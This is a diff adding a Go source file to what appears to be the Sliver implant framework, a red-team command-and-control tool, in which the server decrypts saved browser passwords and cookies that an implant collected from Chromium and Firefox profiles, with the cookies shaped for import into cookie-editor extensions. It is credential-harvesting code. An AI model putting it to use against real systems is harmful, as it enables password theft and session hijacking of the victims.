@@ -0,0 +1,145 @@
+package browser
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+	"sort"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+// Files collected by the implant, keyed by their path relative to the profile
+const (
+	ChromiumLoginData        = "Login Data"
+	ChromiumLoginDataAccount = "Login Data For Account"
+	ChromiumCookies          = "Cookies"
+	FirefoxLogins            = "logins.json"
+	FirefoxKeyDB             = "key4.db"
+	FirefoxCookies           = "cookies.sqlite"
+	FirefoxCookiesWAL        = "cookies.sqlite-wal"
+
+	firefox = "firefox"
+)
+
+// Login - A saved password
+type Login struct {
+	Origin   string
+	Username string
+	Password string
+}
+
+// Cookie - Same fields as the JSON most cookie editor extensions import
+type Cookie struct {
+	Domain         string `json:"domain"`
+	HostOnly       bool   `json:"hostOnly"`
+	Name           string `json:"name"`
+	Value          string `json:"value"`
+	Path           string `json:"path"`
+	Secure         bool   `json:"secure"`
+	HTTPOnly       bool   `json:"httpOnly"`
+	Session        bool   `json:"session"`
+	ExpirationDate int64  `json:"expirationDate,omitempty"`
+}
+
+// Harvest - Everything recovered from a profile
+type Harvest struct {
+	Logins   []Login
+	Cookies  []Cookie
+	Warnings []string
+}
+
+// HarvestProfile - Decrypt the logins and cookies of a profile collected by an
+// implant running on targetOS, problems with individual files are reported as
+// warnings so that one bad file doesn't lose the rest of the profile
+func HarvestProfile(targetOS string, profile *sliverpb.BrowserProfile) *Harvest {
+	harvest := &Harvest{Logins: []Login{}, Cookies: []Cookie{}, Warnings: []string{}}
+	warn := func(format string, args ...interface{}) {
+		harvest.Warnings = append(harvest.Warnings, fmt.Sprintf(format, args...))
+	}
+	if profile.Browser == firefox {
+		if data, ok := profile.Files[FirefoxLogins]; ok {
+			key, err := firefoxKeyFromDB(profile.Files[FirefoxKeyDB], []byte{})
+			if err != nil {
+				warn("%s: %s", FirefoxKeyDB, err)
+			} else {
+				logins, warnings, err := firefoxLogins(key, data)
+				if err != nil {
+					warn("%s: %s", FirefoxLogins, err)
+				}
+				harvest.Logins = append(harvest.Logins, logins...)
+				harvest.Warnings = append(harvest.Warnings, warnings...)
+			}
+		}
+		if data, ok := profile.Files[FirefoxCookies]; ok {
+			cookies, err := firefoxCookies(data, profile.Files[FirefoxCookiesWAL])
+			if err != nil {
+				warn("%s: %s", FirefoxCookies, err)
+			}
+			harvest.Cookies = append(harvest.Cookies, cookies...)
+		}
+		return harvest
+	}
+
+	if profile.SecretErr != "" {
+		warn("key store: %s", profile.SecretErr)
+	}
+	decrypter := &chromiumDecrypter{targetOS: targetOS, secret: profile.Secret}
+	for _, name := range []string{ChromiumLoginData, ChromiumLoginDataAccount} {
+		data, ok := profile.Files[name]
+		if !ok {
+			continue
+		}
+		logins, warnings, err := chromiumLogins(decrypter, data)
+		if err != nil {
+			warn("%s: %s", name, err)
+		}
+		harvest.Logins = append(harvest.Logins, logins...)
+		harvest.Warnings = append(harvest.Warnings, warnings...)
+	}
+	if data, ok := profile.Files[ChromiumCookies]; ok {
+		cookies, warnings, err := chromiumCookies(decrypter, data)
+		if err != nil {
+			warn("%s: %s", ChromiumCookies, err)
+		}
+		harvest.Cookies = append(harvest.Cookies, cookies...)
+		harvest.Warnings = append(harvest.Warnings, warnings...)
+	}
+	return harvest
+}
+
+// summarizeWarnings - One warning per distinct error instead of one per value
+func summarizeWarnings(warnings map[string]int, kind string) []string {
+	summary := []string{}
+	for err, count := range warnings {
+		summary = append(summary, fmt.Sprintf("%d %s(s) not decrypted: %s", count, kind, err))
+	}
+	sort.Strings(summary)
+	return summary
+}
+
+func stringValue(value interface{}) string {
+	str, _ := value.(string)
+	return str
+}
+
+func intValue(value interface{}) int64 {
+	integer, _ := value.(int64)
+	return integer
+}